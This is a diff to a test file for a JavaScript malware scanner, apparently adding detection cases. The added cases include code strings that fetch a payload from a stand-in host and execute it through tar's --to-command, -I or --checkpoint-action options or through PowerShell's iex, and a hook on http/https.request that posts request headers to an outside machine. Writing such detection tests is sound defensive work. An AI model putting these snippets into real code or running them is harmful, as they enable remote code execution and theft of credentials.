@@ -13,6 +13,10 @@ async function rulesIn(files: Readonly<Record<string, string>>): Promise<string[
 }
 
 const SENT = 'code/environment-sent';
+const download =
+  "const fs = require('fs'); const { spawnSync } = require('child_process'); const at = '/tmp/x';";
+const written = (run: string): string =>
+  `fetch('https://c.example.invalid').then((r) => r.text()).then((text) => { fs.writeFileSync(at, text); ${run}; });`;
 const send = "fetch('https://c.example.invalid', { method: 'POST', body });";
 
 it.each<[what: string, code: string, rule: string]>([
@@ -77,6 +81,22 @@ it.each<[what: string, code: string, rule: string]>([
     "const traps = (names) => names.forEach((name) => Object.defineProperty(Object.prototype, name, { set() { fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(this) }); } })); traps(['a' + 'b']);",
     'code/request-hook',
   ],
+  [
+    'a function that wraps those of two modules, and sends to a third machine',
+    "const http = require('http'); const https = require('https'); const wrap = (before) => (options, done) => { fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(options.headers) }); return before(options, done); }; http.request = wrap(http.request); https.request = wrap(https.request);",
+    'code/request-hook',
+  ],
+  ...[
+    "spawnSync('tar', ['-xf', at, '--to-command=sh'])",
+    "spawnSync('tar', ['-I', at, '-xf', 'a.tar'])",
+    "spawnSync('tar', options)",
+    "spawnSync('powershell.exe', [at, '-Command', 'Expand-Archive a.zip; & x'])",
+    "spawnSync('pwsh', [at, '-Command', 'Expand-Archive (iex x)'])",
+  ].map((run): [string, string, string] => [
+    `a program that unpacks and runs another: ${run}`,
+    `${download} const options = ['-cf', 'x', '--checkpoint-action=exec=sh ' + at, at]; ${written(run)}`,
+    'code/runs-written',
+  ]),
 ])('finds %s', async (_, code, rule) => {
   expect(await rulesIn({ 'index.js': code })).toContain(rule);
 });
@@ -100,6 +120,27 @@ it.each<[what: string, code: string]>([
   [
     'what a hook gives this machine',
     "const https = require('https'); const before = https.request; https.request = (options) => { fetch('http://127.0.0.1:4318', { method: 'POST', body: JSON.stringify(options.headers) }); return before(options); };",
+  ],
+  [
+    'the given functions of two modules, called with what they would get',
+    "const http = require('http'); const https = require('https'); const wrap = (before, agent) => (options, done) => before({ ...options, agent }, done); http.request = wrap(http.request, 1); https.request = wrap(https.request, 1); https.request('https://a.example.invalid');",
+  ],
+  ...[
+    "spawnSync('tar', ['-xf', at])",
+    "spawnSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -LiteralPath '${at}' -DestinationPath /tmp`])",
+  ].map((run): [string, string] => [`a program that only unpacks: ${run}`, download + written(run)]),
+  ...[
+    'some((each) => each.family === 4)',
+    'every((each) => each)',
+    'findIndex((each) => each.x)',
+    'includes(1)',
+  ].map((asked): [string, string] => [
+    `an answer about a list: ${asked}`,
+    `const is = Object.values(require('os').networkInterfaces()).flat().${asked}; require('dns').lookup(is, () => {});`,
+  ]),
+  [
+    'what is encoded again, in the comment of compiled code',
+    "exports.run = (code) => { const map = btoa(code.replace(/%(..)/g, (_, hex) => String.fromCharCode('0x' + hex))); require('vm').runInThisContext(code + '//' + map); };",
   ],
 ])('takes %s for harmless', async (_, code) => {
   expect(await rulesIn({ 'index.js': code })).toEqual([]);
